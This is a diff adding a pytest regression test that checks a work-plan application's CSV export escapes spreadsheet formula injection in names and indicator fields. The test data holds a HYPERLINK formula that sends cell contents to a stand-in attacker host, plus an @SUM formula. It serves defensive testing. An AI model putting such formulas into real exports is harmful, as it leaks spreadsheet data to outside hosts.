@@ -95,3 +95,28 @@ def test_csv_money_adds_up_with_several_indicators(users, tahap_final):
         ("12000", "Paket", ""),
     ]
     assert sum(int(r["pagu"]) for r in rows if r["level"] == "sub_kegiatan" and r["pagu"]) == 26736518416
+
+
+def test_csv_escapes_formula_in_names(users, tahap_final):
+    """Issue 6 defect 9: a name beginning with = (or + - @) went out as is, and a spreadsheet ran it."""
+    from decimal import Decimal
+
+    from renja.perencanaan import services
+    from renja.perencanaan.models import RenjaRow
+    from renja.perencanaan.services import IndikatorInput, RowInput
+    from renja.perencanaan.targets import Target
+
+    row = RenjaRow.objects.get(tahap=tahap_final, kode="1.06.04.2.01.0001")
+    data = RowInput(
+        kode=row.kode,
+        nama='=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")',
+        unit=row.unit,
+        pagu={"PAD": Decimal(1000000000)},
+        indikator=[IndikatorInput(uraian="@SUM(1+1)", target=Target(nilai=Decimal(500)), satuan="-Orang")],
+    )
+    services.subkegiatan_update(actor=users["perencana"], row=row, expected_version=1, data=data)
+    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
+    line = next(r for r in rows if r["kode"] == "1.06.04.2.01.0001")
+    assert line["nama"] == '\'=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")'
+    assert line["indikator"] == "'@SUM(1+1)" and line["satuan"] == "'-Orang"
+    assert line["pagu"] == "1000000000" and line["target"] == "500"  # numbers stay numbers
